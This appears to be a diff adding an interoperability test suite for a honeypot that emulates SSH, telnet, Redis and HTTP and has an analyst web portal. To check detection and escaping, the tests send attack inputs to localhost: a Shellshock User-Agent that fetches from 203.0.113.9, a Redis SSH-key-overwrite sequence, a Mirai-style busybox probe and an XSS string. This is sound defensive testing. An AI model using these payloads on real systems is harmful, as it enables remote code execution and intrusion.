@@ -1,0 +1,331 @@
+import { execFile, execFileSync } from 'node:child_process'
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { promisify } from 'node:util'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import type { StoredEvent } from '@skep/vocabulary'
+import { call, startAll, type Running } from './process.ts'
+
+// Real clients of other people against the whole thing. What is not installed is skipped, and named in the output.
+
+const run = promisify(execFile)
+const has = (program: string): boolean => {
+  try {
+    execFileSync('sh', ['-c', `command -v ${program}`], { stdio: 'ignore' })
+    return true
+  } catch {
+    console.log(`skipped: ${program} is not installed`)
+    return false
+  }
+}
+const python = (module: string): boolean => {
+  try {
+    execFileSync('python3', ['-c', `import ${module}`], { stdio: 'ignore' })
+    return true
+  } catch {
+    console.log(`skipped: the Python module ${module} is not installed`)
+    return false
+  }
+}
+
+const data = mkdtempSync(join(tmpdir(), 'skep-interop-'))
+const from = 16_500 + Math.floor(Math.random() * 5000)
+let all: Running
+let token: string
+let pair = { user: '', password: '' }
+const events = async (query: string): Promise<StoredEvent[]> => {
+  const answer = await fetch(`${all.portal}/api/v1/events?${query}`, { headers: { authorization: `Bearer ${token}` } })
+  return (await answer.text())
+    .split('\n')
+    .filter((line) => line !== '')
+    .map((line) => JSON.parse(line) as StoredEvent)
+}
+const until = async (query: string, look: (event: StoredEvent) => boolean): Promise<StoredEvent> => {
+  for (let i = 0; i < 100; i++) {
+    const found = (await events(query)).find(look)
+    if (found !== undefined) return found
+    await new Promise((resolve) => setTimeout(resolve, 50))
+  }
+  throw new Error(`not in the API within 5 s: ${query}`)
+}
+
+beforeAll(async () => {
+  all = await startAll(data, from)
+  token = call('token', 'create', '--role', 'operator', '--data', data).trim()
+  const [first] = (
+    JSON.parse(call('sensor', 'credentials', '--data', data, '--json')) as {
+      credentials: { user: string; password: string }[]
+    }
+  ).credentials
+  pair = first ?? pair
+}, 120_000)
+afterAll(async () => {
+  await all.stop()
+  rmSync(data, { recursive: true, force: true })
+}, 60_000)
+
+const ssh = (more: string[], line: string) =>
+  run('sshpass', [
+    '-p',
+    pair.password,
+    'ssh',
+    '-o',
+    'StrictHostKeyChecking=no',
+    '-o',
+    'UserKnownHostsFile=/dev/null',
+    '-o',
+    'LogLevel=ERROR',
+    '-p',
+    String(from + 22),
+    ...more,
+    `${pair.user}@127.0.0.1`,
+    line,
+  ])
+
+test.runIf(has('ssh') && has('sshpass'))(
+  'OpenSSH: commands, ciphers, MACs, key exchanges, host keys, rekeying',
+  async () => {
+    expect((await ssh([], 'echo $((6*7)); uname -s')).stdout).toBe('42\nLinux\n')
+    const offers: string[][] = [
+      ...[
+        'chacha20-poly1305@openssh.com',
+        'aes128-gcm@openssh.com',
+        'aes256-gcm@openssh.com',
+        'aes128-ctr',
+        'aes192-ctr',
+        'aes256-ctr',
+      ].map((name) => ['-c', name]),
+      ...[
+        'hmac-sha2-256-etm@openssh.com',
+        'hmac-sha2-512-etm@openssh.com',
+        'hmac-sha1-etm@openssh.com',
+        'hmac-sha2-256',
+        'hmac-sha2-512',
+        'hmac-sha1',
+      ].map((name) => ['-c', 'aes256-ctr', '-m', name]),
+      ...[
+        'curve25519-sha256',
+        'ecdh-sha2-nistp256',
+        'ecdh-sha2-nistp384',
+        'ecdh-sha2-nistp521',
+        'diffie-hellman-group14-sha256',
+        'diffie-hellman-group16-sha512',
+        'diffie-hellman-group18-sha512',
+      ].map((name) => ['-o', `KexAlgorithms=${name}`]),
+      ...['ssh-ed25519', 'rsa-sha2-256', 'rsa-sha2-512'].map((name) => ['-o', `HostKeyAlgorithms=${name}`]),
+      ['-o', 'RekeyLimit=16K'],
+    ]
+    for (const more of offers) expect((await ssh(more, 'seq 1 9000 | tail -1')).stdout, more.join(' ')).toBe('9000\n')
+    const hello = await until(
+      'kind=client.hello',
+      (event) => event.kind === 'client.hello' && event.data.hassh !== undefined,
+    )
+    expect(hello.data).toMatchObject({ ident: expect.stringMatching(/^SSH-2\.0-OpenSSH_/) as string })
+  },
+  120_000,
+)
+
+test.runIf(has('expect') && has('ssh'))(
+  'OpenSSH with a terminal: what a person types and sees',
+  async () => {
+    const script = join(data, 'pty.exp')
+    writeFileSync(
+      script,
+      `set timeout 10
+spawn ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -p ${from + 22} ${pair.user}@127.0.0.1
+expect "password:"; send "${pair.password}\\r"
+expect "# "; send "cd /tmp; pwd\\r"
+expect "/tmp\\r"; expect "# "; send "whoamx\\177i\\r"
+expect "root\\r"; expect "# "; send "exit\\r"
+expect eof
+`,
+    )
+    const { stdout } = await run('expect', [script])
+    expect(stdout).toContain('The programs included with the Debian GNU/Linux system')
+    expect(stdout).toMatch(/:\/tmp# /)
+    await until(
+      'kind=command.run',
+      (event) => event.kind === 'command.run' && event.data.line === 'whoami' && event.data.cwd === '/tmp',
+    )
+  },
+  60_000,
+)
+
+test.runIf(has('telnet') && has('expect'))(
+  'a telnet client: option negotiation, log-in, shell',
+  async () => {
+    const script = join(data, 'telnet.exp')
+    writeFileSync(
+      script,
+      `set timeout 10
+spawn telnet 127.0.0.1 ${from + 23}
+expect "login: "; send "${pair.user}\\r"
+expect "Password: "; send "${pair.password}\\r"
+expect "# "; send "/bin/busybox ECCHI\\r"
+expect "applet not found"; expect "# "; send "exit\\r"
+expect eof
+`,
+    )
+    expect((await run('expect', [script])).stdout).toContain('ECCHI: applet not found')
+    await until(
+      'service=telnet&kind=client.hello',
+      (event) => event.kind === 'client.hello' && (event.data.options?.some((one) => one.startsWith('TERM=')) ?? false),
+    )
+  },
+  60_000,
+)
+
+test.runIf(has('redis-cli'))(
+  'redis-cli, in both protocol versions',
+  async () => {
+    const cli = async (...args: string[]) => (await run('redis-cli', ['-p', String(from + 6379), ...args])).stdout
+    expect(await cli('PING')).toBe('PONG\n')
+    expect(await cli('-3', 'HELLO', '3')).toContain('6.0.16')
+    expect(await cli('CONFIG', 'SET', 'dir', '/root/.ssh')).toBe('OK\n')
+    expect(await cli('SET', 'k', 'a\nb')).toBe('OK\n')
+    expect(await cli('INFO', 'server')).toContain('redis_version:6.0.16')
+    expect(await cli('NOSUCH')).toContain('ERR unknown command')
+    await until(
+      'kind=exploit.match',
+      (event) => event.kind === 'exploit.match' && event.data.exploit === 'redis-ssh-key',
+    )
+  },
+  30_000,
+)
+
+test.runIf(has('curl') && has('nc'))(
+  'curl and netcat',
+  async () => {
+    const { stdout } = await run('curl', [
+      '-s',
+      '-i',
+      '-A',
+      '() { :; }; wget http://203.0.113.9/s',
+      `http://127.0.0.1:${from + 80}/login`,
+    ])
+    expect(stdout).toMatch(/^HTTP\/1\.1 200 OK\r\nServer: nginx\/1\.18\.0\r\n/)
+    await until(
+      'service=http&kind=payload.seen',
+      (event) => event.kind === 'payload.seen' && event.data.url === 'http://203.0.113.9/s',
+    )
+    const answer = await run('sh', ['-c', `printf 'hello\\n' | nc -q 2 -w 5 127.0.0.1 ${from + 2305}`])
+    expect(answer.stdout).toBe('ERR unknown command\r\n')
+    await run('sh', ['-c', `printf 'udp hello' | nc -u -q 0 -w 1 127.0.0.1 ${from + 2306}`])
+    await until('kind=scan.probe', (event) => event.transport === 'udp')
+  },
+  30_000,
+)
+
+test.runIf(python('paramiko'))(
+  'paramiko: password, exec, shell',
+  async () => {
+    const program = `
+import paramiko, sys
+c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
+c.connect('127.0.0.1', ${from + 22}, sys.argv[1], sys.argv[2], look_for_keys=False, allow_agent=False)
+print(c.exec_command('nproc; echo done')[1].read().decode().split()[-1])
+s = c.invoke_shell(); s.send('echo in the shell\\n')
+out = ''
+while 'in the shell\\r\\n' not in out: out += s.recv(4096).decode()
+print('ok'); c.close()
+`
+    const { stdout } = await run('python3', ['-c', program, pair.user, pair.password])
+    expect(stdout).toBe('done\nok\n')
+  },
+  60_000,
+)
+
+const chromium = has('chromium')
+test.runIf(chromium)(
+  'the portal in a browser: live, replay, no finding of axe, attacker text is text',
+  async () => {
+    const { chromium: browserType } = await import('playwright-core')
+    const axe = (await import('axe-core')).default
+    if (has('sshpass')) await ssh([], "echo '<img src=x onerror=document.title=1>'; uname -a")
+    call('demo', '--data', data)
+    const browser = await browserType.launch({
+      executablePath: execFileSync('sh', ['-c', 'command -v chromium'], { encoding: 'utf8' }).trim(),
+      args: [
+        '--no-sandbox',
+        '--disable-gpu',
+        '--disable-quic',
+        '--disable-background-networking',
+        '--disable-component-update',
+        '--disable-sync',
+      ],
+    })
+    try {
+      const page = await (
+        await browser.newContext({ viewport: { width: 1280, height: 900 }, bypassCSP: false })
+      ).newPage()
+      const wrong: string[] = []
+      page.on('pageerror', (error) => wrong.push(String(error)))
+      page.on('console', (message) => {
+        if (message.type() === 'error') wrong.push(message.text())
+      })
+      await page.goto(all.signin)
+      await page.waitForSelector('.timeline svg')
+      // Live: a new session appears without a reload.
+      await page.waitForSelector('.live .on')
+      await fetch(`http://127.0.0.1:${from + 80}/live-in-the-portal`)
+      await page.waitForSelector('text=/live-in-the-portal/', { timeout: 5000 })
+      const session = (await events('kind=command.run')).at(-1)?.session ?? ''
+      const paths = [
+        '/?span=all',
+        '/networks?span=all',
+        '/network/12271?span=all',
+        '/source/72.226.28.47',
+        '/sources?span=all',
+        '/sessions?span=all',
+        '/indicators?span=all',
+        '/indicators?span=all&type=credential',
+        '/search?q=AS12271',
+        '/fleet',
+        ...(session === '' ? [] : [`/session/${session}`]),
+      ]
+      for (const scheme of ['light', 'dark'] as const) {
+        await page.emulateMedia({ colorScheme: scheme })
+        for (const path of paths) {
+          await page.goto(`${all.portal}${path}`)
+          await page.waitForSelector('h1', { state: 'attached' })
+          await page.waitForFunction('document.querySelectorAll(".skeleton").length === 0')
+          // From outside the page's own world: its policy lets no script of ours in.
+          const cdp = await page.context().newCDPSession(page)
+          await cdp.send('Runtime.evaluate', { expression: axe.source })
+          const { result } = await cdp.send('Runtime.evaluate', {
+            expression:
+              "axe.run(document, { resultTypes: ['violations'] }).then((r) => JSON.stringify(r.violations.filter((v) => v.impact === 'serious' || v.impact === 'critical').map((v) => v.id + ': ' + v.nodes[0].html)))",
+            awaitPromise: true,
+          })
+          expect(JSON.parse(String(result.value)), `${scheme} ${path}`).toEqual([])
+        }
+      }
+      if (session !== '') {
+        await page.waitForSelector('.player .ap-player')
+        expect(await page.title()).toBe('Skep')
+        expect(await page.locator('img[src="x"]').count()).toBe(0)
+      }
+      expect(wrong).toEqual([])
+      // The first page and all that it needs.
+      const sizes: number[] = []
+      page.on(
+        'response',
+        (response) =>
+          void response
+            .request()
+            .sizes()
+            .then(
+              ({ responseBodySize }) => sizes.push(responseBodySize),
+              () => {},
+            ),
+      )
+      await page.goto(`${all.portal}/?span=all&x=${Date.now()}`)
+      await page.waitForSelector('.timeline svg')
+      expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(300 * 1024)
+    } finally {
+      await browser.close()
+    }
+  },
+  180_000,
+)
